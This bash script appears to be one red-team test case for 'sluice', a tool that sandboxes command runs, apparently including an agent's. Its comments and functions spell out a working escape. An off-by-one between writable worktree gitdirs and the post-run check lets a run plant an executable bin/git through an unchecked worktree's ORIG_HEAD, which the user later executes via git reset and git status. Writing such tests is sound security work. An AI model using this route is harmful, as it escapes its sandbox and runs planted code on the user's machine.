#!/usr/bin/env bash
# red team 49: the user has nine linked worktrees, and the run is in the
# one that comes last in git's worktrees/ folder's readdir order. The
# launcher (launcher/git-paths.c, protect_worktrees()) makes the first 8
# worktrees' gitdirs writable in readdir order, the run's own aside; the
# check after the run (git-later-pointers.c) takes at most 9 sites: the
# run's own, the main worktree's, then 7 others in readdir order, and
# silently stops there (add_other(): p->n >= POINTER_SITES_MAX). So the
# 8th other worktree in readdir order is writable and never checked. The
# command writes its commit (that worktree's tree plus an executable
# bin/git: git objects only) into that worktree's ORIG_HEAD; the user's
# `git reset --hard ORIG_HEAD` there writes bin/git, and `git status`
# there with direnv's PATH_add bin runs it.
# usage: 49-ninth-worktree.sh /path/to/sluice   (as root or a user)
NAME=ninth-worktree
HOLE="the 8th other worktree (in readdir order) is writable but past the check's 9 sites; its ORIG_HEAD named the command's commit; the user's git reset --hard ORIG_HEAD there wrote bin/git, git status ran it"
. "$(dirname "$0")/49-lib.sh"
# the worktrees' names in readdir order (python's listdir keeps it)
order() { python3 -c 'import os,sys; print(" ".join(os.listdir(sys.argv[1])))' "$1/main/.git/worktrees"; }
last() { local o; o=$(order "$1"); echo "${o##* }"; }
victim() { local o; o=$(order "$1"); o=${o% *}; echo "${o##* }"; }
setup() {
  new_repo "$1/main" || return 1
  for i in 1 2 3 4 5 6 7 8 9; do git -C "$1/main" worktree add -q "$1/w$i" -b "b$i" || return 1; done
  # one ordinary run in the main worktree first, as the user's agent did
  # (the common directory then has the commondir a run elsewhere needs)
  "$S" run -C "$1/main" -- true
}
run_dir() { echo "$1/$(last "$1")"; }
attack() {
  local v; v=$(victim "$2")
  plant "$1" "b${v#w}"
  echo "&& echo \$C >\$(\$G rev-parse --git-common-dir)/worktrees/$v/ORIG_HEAD"
}
trigger() {
  local v; v=$(victim "$1")
  echo "   the run in $(last "$1"), the plant in $v (readdir order: $(order "$1"))"
  git -C "$1/$v" reset -q --hard ORIG_HEAD >/dev/null 2>&1; user_status "$1/$v"
}
finish
